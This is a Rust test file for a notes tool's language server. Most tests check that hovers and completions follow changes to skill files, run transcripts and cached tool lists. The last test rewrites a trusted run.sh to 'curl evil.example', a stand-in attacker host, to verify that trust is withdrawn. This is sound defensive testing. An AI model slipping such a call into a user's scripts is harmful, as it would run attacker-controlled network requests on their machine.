//! Issue 26: requests read what the server knows from memory, and that memory follows each
//! source of change — a skill file edited, a transcript finished by another process, a tool
//! list written by a run elsewhere, a skill added to the user's folder. (A trust from a shell
//! and a lock taken elsewhere: refresh.rs and `list_notes_follows_time_trust_and_runs`.)

use serde_json::{Value, json};

use super::harness::{TestClient, pos};
use super::{cursor, utf16_caps};

const DIGEST: &str = "---\nname: weekly-digest\ndescription: Sum up a week of notes.\n---\nGroup by day.\n";

async fn hover_text(c: &mut TestClient, uri: &str, text: &str, at: usize) -> String {
    let hover = c
        .request(
            "textDocument/hover",
            json!({"textDocument": {"uri": uri}, "position": pos(text, at, false)}),
        )
        .await;
    hover["result"]["contents"]["value"].as_str().unwrap_or("<none>").to_owned()
}

async fn completion_labels(c: &mut TestClient, uri: &str, text: &str, at: usize) -> Vec<String> {
    let items = c
        .request(
            "textDocument/completion",
            json!({"textDocument": {"uri": uri}, "position": pos(text, at, false)}),
        )
        .await;
    items["result"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|i| i["label"].as_str().map(str::to_owned))
        .collect()
}

/// Wait for the redraw a change seen by the server's own watcher asks for (a few rounds: an
/// earlier change of the same burst may ask first), until `done` says what is shown now.
async fn after_redraws(c: &mut TestClient, mut done: impl AsyncFnMut(&mut TestClient) -> bool) -> bool {
    for _ in 0..5 {
        c.next_notification("workspace/codeLens/refresh").await;
        if done(c).await {
            return true;
        }
    }
    false
}

#[tokio::test]
async fn a_skill_file_edited_shows_its_new_description() {
    let root = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let note = "---\nlive:\n  objective: x\n  skills: [weekly-digest]\n---\n# N\n";
    let files = [("skills/digest.md", DIGEST), ("n.md", note)];
    let mut c = TestClient::start_in(root, &files, utf16_caps(), Value::Null, true).await;
    let uri = c.open("n.md", note).await;
    c.diagnostics(&uri, 1).await;
    let at = note.find("weekly-digest").unwrap_or(0) + 2;
    let before = hover_text(&mut c, &uri, note, at).await;
    assert!(before.contains("Sum up a week of notes."), "{before}");
    let edited = DIGEST.replace("Sum up a week of notes.", "Sum up a fortnight.");
    std::fs::write(c.root.path().join("skills/digest.md"), edited).unwrap_or_else(|e| panic!("{e}"));
    c.notify(
        "workspace/didChangeWatchedFiles",
        json!({"changes": [{"uri": c.uri("skills/digest.md"), "type": 2}]}),
    )
    .await;
    let after = hover_text(&mut c, &uri, note, at).await;
    assert!(after.contains("Sum up a fortnight."), "{after}");
    c.shutdown().await;
}

#[tokio::test]
async fn a_transcript_finished_by_another_process_shows_its_costs() {
    let id = "01KA0000000000000000000000";
    let note = format!(
        "---\nlive:\n  objective: x\n  lastRunAt: \"2026-11-23T15:00:05Z\"\n  lastRunId: \"{id}\"\n---\n# N\n"
    );
    let started = "{\"kind\":\"start\",\"message\":\"run started\"}\n";
    let transcript = format!(".livenote/runs/{id}.jsonl");
    let root = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let files = [("n.md", note.as_str()), (transcript.as_str(), started)];
    let mut c = TestClient::start_in(root, &files, utf16_caps(), Value::Null, true).await;
    let uri = c.open("n.md", &note).await;
    c.diagnostics(&uri, 1).await;
    let at = note.find("lastRunAt").unwrap_or(0) + 2;
    // `watch` runs it still: nothing to say about its costs yet.
    let running = hover_text(&mut c, &uri, &note, at).await;
    assert!(!running.contains("The latest run"), "{running}");
    let done = json!({"kind": "done", "message": "Updated", "data": {"totals": {
        "tokens": {"input": 100, "output": 20, "cached": 0}, "modelCalls": 1,
        "toolCalls": {}, "durationMs": 1500}}});
    std::fs::write(c.root.path().join(&transcript), format!("{started}{done}\n"))
        .unwrap_or_else(|e| panic!("{e}"));
    c.notify("workspace/didChangeWatchedFiles", json!({"changes": [{"uri": c.uri(&transcript), "type": 2}]}))
        .await;
    let finished = hover_text(&mut c, &uri, &note, at).await;
    assert!(finished.contains("The latest run (`01KA0000000000000000000000`): 1 model call"), "{finished}");
    c.shutdown().await;
}

#[tokio::test]
async fn a_tool_list_written_by_a_run_elsewhere_is_offered() {
    use livenote::config::{McpServerConfig, McpTransport, Origin};
    use livenote::mcp::cache::{CachedTool, ToolCache};
    let root = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let command = vec!["time-mcp".to_owned()];
    let config = format!("[mcp.servers.time]\ncommand = {command:?}\n");
    let (typed, at) = cursor("---\nlive:\n  objective: x\n  tools:\n    - $0\n---\n# N\n");
    // The data folder's tool lists exist (a run listed another server before).
    std::fs::create_dir_all(root.path().join(".data/mcp-tools")).unwrap_or_else(|e| panic!("{e}"));
    let files = [(".livenote.toml", config.as_str()), ("n.md", typed.as_str())];
    let settings = json!({"scheduler": {"enabled": false}});
    let mut c = TestClient::start_trusted_watching(root, &files, utf16_caps(), settings).await;
    let uri = c.open("n.md", &typed).await;
    c.diagnostics(&uri, 1).await;
    assert_eq!(completion_labels(&mut c, &uri, &typed, at).await, ["time"]);
    // `watch`'s run of another note started the server and kept its tools.
    let cfg = McpServerConfig {
        transport: McpTransport::Stdio { command },
        env: Default::default(),
        events: false,
        timeout: std::time::Duration::from_secs(30),
        origin: Origin::Workspace,
    };
    let tool = CachedTool {
        name: "get_current_time".to_owned(),
        description: Some("Get current time".to_owned()),
        input_schema: json!({"type": "object"}),
    };
    ToolCache::in_dir(&c.root.path().join(".data"))
        .store("time", &cfg, &[tool], super::harness::now())
        .unwrap_or_else(|e| panic!("{e}"));
    let want = ["time", "time.get_current_time"];
    let shown = after_redraws(&mut c, async |c| completion_labels(c, &uri, &typed, at).await == want).await;
    assert!(shown, "{:?}", completion_labels(&mut c, &uri, &typed, at).await);
    c.shutdown().await;
}

#[tokio::test]
async fn a_skill_added_to_the_users_folder_is_offered() {
    let root = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (typed, at) = cursor("---\nlive:\n  objective: x\n  skills: [$0]\n---\n# N\n");
    let tone = "---\nname: tone\ndescription: A friendly tone.\n---\nBe kind.\n";
    let files = [(".config/skills/tone.md", tone), ("n.md", typed.as_str())];
    let settings = json!({"scheduler": {"enabled": false}});
    let mut c = TestClient::start_trusted_watching(root, &files, utf16_caps(), settings).await;
    let uri = c.open("n.md", &typed).await;
    c.diagnostics(&uri, 1).await;
    let before = completion_labels(&mut c, &uri, &typed, at).await;
    assert!(before.contains(&"tone".to_owned()) && !before.contains(&"calm".to_owned()), "{before:?}");
    let calm = "---\nname: calm\ndescription: A calm voice.\n---\nBreathe.\n";
    std::fs::write(c.root.path().join(".config/skills/calm.md"), calm).unwrap_or_else(|e| panic!("{e}"));
    let shown = after_redraws(&mut c, async |c| {
        completion_labels(c, &uri, &typed, at).await.contains(&"calm".to_owned())
    })
    .await;
    assert!(shown, "{:?}", completion_labels(&mut c, &uri, &typed, at).await);
    c.shutdown().await;
}

/// A file the folder's configuration runs is edited by another program: the folder is no
/// longer trusted with it, and the hints say so once the change is heard of.
#[tokio::test]
async fn a_file_the_configuration_runs_edited_withdraws_the_trust_shown() {
    let note = "---\nlive:\n  objective: the time\n  triggers:\n    cronExpr: \"0 * * * *\"\n---\n# Time\n";
    let root = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let config = "[agent]\nprovider = \"p\"\n[providers.p]\nkind = \"command\"\ncommand = [\"./run.sh\"]\n";
    for (rel, text) in [(".livenote.toml", config), ("run.sh", "#!/bin/sh\necho hi\n"), ("n.md", note)] {
        std::fs::write(root.path().join(rel), text).unwrap_or_else(|e| panic!("{e}"));
    }
    let store = livenote::workspace::trust::TrustStore::in_dir(&root.path().join(".data"));
    store.trust(root.path()).unwrap_or_else(|e| panic!("{e}"));
    let settings = json!({"scheduler": {"enabled": false}});
    let mut c = TestClient::start_in(root, &[], utf16_caps(), settings, false).await;
    let uri = c.open("n.md", note).await;
    c.diagnostics(&uri, 1).await;
    let hints = async |c: &mut TestClient| {
        let res = c
            .request(
                "textDocument/inlayHint",
                json!({"textDocument": {"uri": uri},
                       "range": {"start": {"line": 0, "character": 0}, "end": {"line": 20, "character": 0}}}),
            )
            .await;
        let labels: Vec<String> = res["result"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|h| h["label"].as_str().map(str::to_owned))
            .collect();
        labels.join(" | ")
    };
    let trusted = hints(&mut c).await;
    assert!(!trusted.contains("waiting for trust"), "{trusted}");
    std::fs::write(c.root.path().join("run.sh"), "#!/bin/sh\ncurl evil.example\n")
        .unwrap_or_else(|e| panic!("{e}"));
    c.notify("workspace/didChangeWatchedFiles", json!({"changes": [{"uri": c.uri("run.sh"), "type": 2}]}))
        .await;
    let changed = hints(&mut c).await;
    assert!(changed.starts_with("waiting for trust"), "{changed}");
    c.shutdown().await;
}
